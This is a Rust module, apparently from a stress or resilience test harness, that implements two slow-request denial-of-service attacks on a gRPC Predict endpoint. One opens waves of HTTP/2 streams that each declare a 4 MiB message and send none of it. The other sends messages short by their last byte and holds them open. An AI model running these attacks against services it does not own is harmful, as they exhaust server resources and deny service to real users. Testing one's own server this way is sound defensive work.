//! Messages that never arrive completely.

use std::io;
use std::time::Duration;

use super::attack::{Attack, Session};
use super::connection::AttackConnection;
use super::raw_http2::{flag, frame, grpc_message, kind};
use super::target::Target;

const PREDICT: &str = "/certimix.v1.MixedClassifier/Predict";
/// The default of `server.max_message_bytes`.
const DECLARED_BYTES: usize = 4 << 20;

/// Waves of connections, each with many requests of which only the prefix is sent. It declares a
/// message of 4 MiB. The connections are closed, and the next wave begins.
pub struct PrefixWaves {
    pub connections: usize,
    pub prefixes: usize,
    /// The time between two waves.
    pub pause: Duration,
}

impl Attack for PrefixWaves {
    fn name(&self) -> &'static str {
        "prefix waves"
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connections = Vec::new();
        for _ in 0..self.connections {
            connections.push(AttackConnection::open(target, session)?);
        }
        for connection in &mut connections {
            let mut bytes = Vec::new();
            for _ in 0..self.prefixes {
                let stream = connection.new_stream();
                bytes.extend(connection.headers(stream, PREDICT, &[]));
                bytes.extend(frame(
                    kind::DATA,
                    flag::NONE,
                    stream,
                    &grpc_message(DECLARED_BYTES, &[]),
                ));
                session.count_sent(1);
            }
            connection.send(&bytes)?;
        }
        session.wait(self.pause);
        Ok(())
    }
}

/// Requests of which all but the last byte of a large message is sent, on one connection.
pub struct HalfSentMessages {
    pub requests: usize,
    pub bytes: usize,
    /// The time for which the requests stay as they are.
    pub hold: Duration,
}

impl Attack for HalfSentMessages {
    fn name(&self) -> &'static str {
        "half-sent messages"
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connection = AttackConnection::open(target, session)?;
        let mut message = grpc_message(self.bytes, &vec![0; self.bytes]);
        message.pop();
        for _ in 0..self.requests {
            let stream = connection.start_request(PREDICT, &[])?;
            connection.send_data(stream, &message, session)?;
            session.count_sent(1);
        }
        session.wait(self.hold);
        Ok(())
    }
}
